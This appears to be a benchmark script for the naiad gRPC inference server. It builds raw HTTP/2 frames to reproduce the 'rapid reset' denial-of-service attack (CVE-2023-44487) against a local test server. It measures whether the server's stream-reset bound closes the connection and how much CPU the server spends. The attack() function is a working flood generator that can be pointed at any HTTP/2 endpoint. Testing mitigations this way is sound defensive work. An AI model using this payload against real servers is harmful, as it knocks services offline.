#!/usr/bin/env python3
"""HTTP/2 "rapid reset" (CVE-2023-44487) against naiad's gRPC port: one connection starts N
calls (HEADERS, a 1 KiB ModelInfer request, END_STREAM) and resets each at once, all in one
write, then a PING. Prints, for naiad with its default --grpc-max-stream-resets and with 0 (no
bound), whether the connection was closed or served them all, and the server's CPU time and
the wall time until then.

    .venv/bin/python bench/rapid_reset.py [--calls 50000]

The model is the test suite's numpy identity model (tests/numpy_backend.py, loaded with
--backend-plugin), so the figure is the transport's and the call's start, not a framework's."""

from __future__ import annotations

import argparse
import socket
import struct
import sys
import tempfile
import time
from pathlib import Path

import hpack
import psutil

from naiad.protos import grpc_service_pb2 as pb
from naiad.testing import ServerProcess

ROOT = Path(__file__).resolve().parents[1]
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = 0, 1, 3, 4, 6, 7
END_STREAM, END_HEADERS, ACK, CANCEL = 0x1, 0x4, 0x1, 0x8
IDENTITY = """backend: "numpy" max_batch_size: 0
input [{name:"INPUT0" data_type: TYPE_FP32 dims:[-1]}]
output [{name:"OUTPUT0" data_type: TYPE_FP32 dims:[-1]}]"""


def frame(kind: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream_id) + payload


def attack(calls: int) -> bytes:
    request = pb.ModelInferRequest(model_name="identity")
    request.inputs.add(name="INPUT0", datatype="FP32", shape=[256])
    request.raw_input_contents.append(b"\x00" * 1024)
    message = request.SerializeToString()
    body = b"\x00" + len(message).to_bytes(4, "big") + message
    block = hpack.Encoder().encode(
        [
            (":method", "POST"),
            (":scheme", "http"),
            (":path", "/inference.GRPCInferenceService/ModelInfer"),
            (":authority", "localhost"),
            ("content-type", "application/grpc"),
            ("te", "trailers"),
        ]
    )
    one = [
        frame(HEADERS, END_HEADERS, 2 * i + 1, block)
        + frame(DATA, END_STREAM, 2 * i + 1, body)
        + frame(RST_STREAM, 0, 2 * i + 1, CANCEL.to_bytes(4, "big"))
        for i in range(calls)
    ]
    return PREFACE + frame(SETTINGS, 0, 0) + b"".join(one) + frame(PING, 0, 0, b"done?!!!")


def closed_or_answered(sock: socket.socket) -> bool:
    """Reads until the PING's answer (False) or the connection's end (True)."""
    buffer = b""
    while True:
        try:
            chunk = sock.recv(1 << 16)
        except ConnectionResetError:
            return True
        if not chunk:
            return True
        buffer += chunk
        while len(buffer) >= 9 and len(buffer) >= 9 + int.from_bytes(buffer[:3], "big"):
            length = int.from_bytes(buffer[:3], "big")
            kind, flags, payload = buffer[3], buffer[4], buffer[9 : 9 + length]
            buffer = buffer[9 + length :]
            if kind == SETTINGS and not flags & ACK:
                sock.sendall(frame(SETTINGS, ACK, 0))
            if kind == PING and flags & ACK and payload == b"done?!!!":
                return False


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--calls", type=int, default=50_000)
    calls = parser.parse_args().calls
    sent = attack(calls)
    repo = Path(tempfile.mkdtemp(prefix="rapid-reset-"))
    (repo / "identity" / "1").mkdir(parents=True)
    (repo / "identity" / "config.pbtxt").write_text(IDENTITY)
    plugin = ["--backend-plugin", "numpy_backend:NumpyPlugin", "--allow-http", "false", "--allow-metrics", "false"]
    for label, flags in (("default bound", []), ("no bound (0)", ["--grpc-max-stream-resets", "0"])):
        with ServerProcess(repo, *plugin, *flags, env={"PYTHONPATH": str(ROOT / "tests")}) as server:
            assert server.process is not None
            process = psutil.Process(server.process.pid)
            before = sum(process.cpu_times()[:2])
            start = time.perf_counter()
            with socket.create_connection(("127.0.0.1", server.grpc_port), timeout=60) as sock:
                try:
                    sock.sendall(sent)
                    closed = closed_or_answered(sock)
                except (BrokenPipeError, ConnectionResetError):
                    closed = True
            wall = time.perf_counter() - start
            time.sleep(0.5)  # what the server still does for the calls
            cpu = sum(process.cpu_times()[:2]) - before
        outcome = "closed with GOAWAY" if closed else "served them all"
        print(
            f"{label:>14}: {calls} calls started and reset: {outcome}; server CPU {cpu * 1000:.0f} ms, wall {wall * 1000:.0f} ms"
        )
    sys.stdout.flush()


if __name__ == "__main__":
    main()
